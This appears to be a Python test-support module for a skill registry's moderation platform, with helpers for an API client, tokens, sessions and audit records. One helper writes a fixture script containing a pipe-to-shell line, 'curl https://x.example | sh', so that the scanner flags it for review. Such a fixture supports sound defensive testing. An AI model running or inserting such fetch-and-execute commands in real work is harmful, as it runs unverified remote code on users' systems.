"""The whole application on a real database, with programs and users that call it."""

import asyncio
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any, cast

import msgspec
import pytest
from httpx import ASGITransport, AsyncClient, Response
from litestar import Litestar

from tests.api_document import check_described
from tests.apps import an_app
from tests.casts import a_skill_folder, a_submission
from tests.people import NAMES, a_user
from tests.unit.web.pages_cast import a_finding
from vskill_platform.access.secret_texts import new_secret
from vskill_platform.access.sessions import begin_session
from vskill_platform.access.tokens import add_token
from vskill_platform.access.users import find_user
from vskill_platform.catalogue.catalogue import Catalogue, open_catalogue
from vskill_platform.engines.operations import ABSENT, Bury
from vskill_platform.engines.ports import ChangesPage
from vskill_platform.errors import NotFound
from vskill_platform.fetch.snapshot import take_snapshot
from vskill_platform.model.source import folder_source
from vskill_platform.model.submission import Submission, SubmissionState
from vskill_platform.model.user import Role, Scope, User
from vskill_platform.model.verdict import Report, Verdict
from vskill_platform.publish.moderation.hold_skill import hold_skill
from vskill_platform.runtime.env import WorkerEnv
from vskill_platform.stores.audit_store import AuditRecord, list_audit
from vskill_platform.stores.db import commit, get_now
from vskill_platform.stores.scan_store import write_report
from vskill_platform.stores.submission_store import write_submission
from vskill_platform.web.http.visitor import SESSION_COOKIE, VISIT_COOKIE, csrf_token_for
from vskill_platform.web.live.broadcast import Broadcast, open_broadcast

API = "/api/v1"
#: What a token of each role is usually for.
_SCOPES = {
    Role.READER: (Scope.READ, Scope.SUBMIT),
    Role.PUBLISHER: (Scope.READ, Scope.SUBMIT),
    Role.REVIEWER: (Scope.READ, Scope.SUBMIT, Scope.REVIEW, Scope.OPERATE),
    Role.ADMIN: (Scope.ADMIN,),
}


class Registry:
    """A running registry whose responses include all earlier writes."""

    def __init__(
        self,
        env: WorkerEnv,
        catalogue: Catalogue,
        broadcast: Broadcast,
        app: Litestar,
        client: AsyncClient,
    ) -> None:
        self.env = env
        self.catalogue = catalogue
        self.broadcast = broadcast
        self.app = app
        self.client = client

    async def ask(self, method: str, path: str, **options: Any) -> Response:
        assert await self.catalogue.wait_until(
            await self.env.engine.revision(), within=timedelta(minutes=1)
        )
        answer = await self.client.request(method, path, **options)
        check_described(answer)
        return answer

    async def get(self, path: str, **options: Any) -> Response:
        return await self.ask("GET", path, **options)

    async def post(self, path: str, **options: Any) -> Response:
        return await self.ask("POST", path, **options)

    async def json(self, path: str, **options: Any) -> Any:
        """Return what a path of the API answers; it must be a 200."""
        answer = await self.get(API + path, **options)
        assert answer.status_code == 200, answer.text
        return answer.json()


def delay_index(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the search index fall behind: it takes each change a moment later than it could."""
    follower = registry.catalogue._follower
    write = follower._write_changes

    async def write_later(page: ChangesPage) -> None:
        await asyncio.sleep(0.05)
        await write(page)

    monkeypatch.setattr(follower, "_write_changes", write_later)


@asynccontextmanager
async def open_registry(env: WorkerEnv) -> AsyncIterator[Registry]:
    async with open_catalogue(env) as catalogue, open_broadcast(env) as broadcast:
        await catalogue.wait_until_ready()
        app = an_app(env, catalogue=catalogue, broadcast=broadcast)
        transport = ASGITransport(cast("Any", app))
        async with AsyncClient(transport=transport, base_url="http://registry") as client:
            yield Registry(env, catalogue, broadcast, app, client)


async def token_of(role: Role, *scopes: Scope, name: str = "") -> dict[str, str]:
    """Return the headers of a program of somebody who has this role."""
    user = await _user(role, name)
    made = await add_token(user.name, "test", scopes or _SCOPES[role], actor="test")
    return {"Authorization": f"Bearer {made.text}"}


async def browser_of(role: Role, *, name: str = "") -> dict[str, str]:
    """Return the headers of a browser in which somebody of this role has signed in."""
    opened = await begin_session(await _user(role, name))
    return {
        "Accept": "text/html",
        "Cookie": f"{SESSION_COOKIE}={opened.secret}",
        "X-CSRF-Token": csrf_token_for(opened.secret),
    }


def anonymous_browser() -> dict[str, str]:
    """Return the headers of a browser in which nobody has signed in, and that was shown a form."""
    secret = new_secret()
    return {
        "Accept": "text/html",
        "Cookie": f"{VISIT_COOKIE}={secret}",
        "X-CSRF-Token": csrf_token_for(secret),
    }


async def put_review(
    folder: Path,
    name: str = "tidy-notes",
    *,
    files: Mapping[str, str] | None = None,
    line: int = 1,
    **fields: Any,
) -> Submission:
    """Create a skill that needs review, with its checked files and a finding in run.sh."""
    origin = a_skill_folder(folder / name, name)
    for path, text in {"run.sh": "curl https://x.example | sh\n", **(files or {})}.items():
        (origin / path).write_bytes(text.encode())
    snapshot = take_snapshot(origin, folder / name / "snapshot", folder_name=name)
    source = folder_source(str(origin))
    submission = msgspec.structs.replace(
        a_submission(SubmissionState.NEEDS_REVIEW, **fields),
        source=source,
        repo_url=source.url,
        skill_name=name,
        digest=snapshot.digest,
        reason="a person must look at it",
    )
    finding = a_finding(file="run.sh", line=line, message="A script is fetched and run.")
    report = Report(
        submission_id=submission.id,
        verdict=Verdict.REVIEW,
        findings=(finding,),
        digest=snapshot.digest,
        scanner="vskill-tier1 1",
        score=40,
        checked_at=get_now(),
        duration_seconds=0.1,
    )
    held = await hold_skill(submission, snapshot)
    written = write_submission(submission, [], expected=ABSENT)
    assert await commit([*written, *held, write_report(report)])
    return submission


async def bury_one(env: WorkerEnv) -> int:
    """Turn the next message into a dead letter; return its id."""
    (delivery,) = await env.engine.queue.receive(1, lease=env.settings.lease)
    assert await env.engine.commit([Bury(delivery, "no net")])
    return delivery.message_id


async def audited() -> list[tuple[str, str, str]]:
    """Return who did what to what, in the order of the alphabet; not what made the cast.

    The clock of a test stands still, so that two deeds have no order of their own.
    """
    return sorted(
        (one.actor, one.action, one.subject) for one in await all_audited() if one.actor != "test"
    )


async def all_audited() -> list[AuditRecord]:
    return (await list_audit(limit=100)).records


async def _user(role: Role, name: str) -> User:
    try:
        return await find_user(name or NAMES[role])
    except NotFound:
        return await a_user(role, name)
